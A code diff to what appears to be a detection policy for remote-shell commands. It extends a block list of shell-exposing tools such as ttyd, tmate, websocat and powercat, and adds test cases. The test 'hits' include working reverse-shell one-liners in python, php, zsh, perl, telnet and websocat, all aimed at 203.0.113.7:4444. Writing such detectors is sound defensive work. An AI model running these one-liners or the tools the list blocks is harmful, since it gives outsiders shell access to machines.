@@ -15,7 +15,24 @@ export const remoteShell: readonly Policy[] = [
     when: any(
       effect("bridge"),
       effect("interpret", { carries: ["remote"] }),
-      command(["msfvenom", "msfconsole", "pwncat", "pwncat-cs"]),
+      command(["msfvenom", "msfconsole", "pwncat", "pwncat-cs", "rcat", "powercat", "gs-netcat"]),
+      // A terminal for whoever connects.
+      command([
+        "ttyd",
+        "gotty",
+        "wetty",
+        "shellinaboxd",
+        "telnetd",
+        "in.telnetd",
+        "dropbear",
+        "sshx",
+        "upterm",
+      ], {
+        words:
+          /^(?!.*(?:--help|--version|-V\b|-[hv]$|(?:-i|--interface|-a|--address|--host)[= ](?:lo\b|localhost|127\.)))/,
+      }),
+      command("tmate", { words: /^(?:-[FS]\b.*|new\b.*)?$/ }),
+      command("websocat", { words: /(?:^|\s)(?:exec|cmd|sh-c):/ }),
       command("xterm", { words: /-display\s+(?!localhost|:|127\.)\S/ }),
     ),
     hits: [
@@ -28,10 +45,17 @@ export const remoteShell: readonly Policy[] = [
       'python3 -c \'import socket,subprocess,os; s=socket.socket(); s.connect(("203.0.113.7",4444)); os.dup2(s.fileno(),0); subprocess.call(["/bin/sh"])\'',
       'php -r \'$s=fsockopen("203.0.113.7",4444); exec("/bin/sh -i <&3 >&3");\'',
       "zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.7 4444; exec sh <&$REPLY'",
+      "ttyd -W bash",
+      "websocat ws://203.0.113.7:9000 exec:/bin/bash",
+      'perl -MIO::Socket -e \'$c=IO::Socket::INET->new("203.0.113.7:4444");STDIN->fdopen($c,"r");system $_ while <>;\'',
       "telnet 203.0.113.7 4444 | sh | telnet 203.0.113.7 4445",
     ],
     misses: [
       "bash -i",
+      "ttyd --help",
+      "ttyd -i 127.0.0.1 bash",
+      "websocat ws://localhost:9000",
+      "tmate show-messages",
       "zsh -c 'zmodload zsh/net/tcp; ztcp localhost 80; print GET >&$REPLY'",
       "nc -zv db.example.com 5432",
       "echo PING | nc localhost 6379",
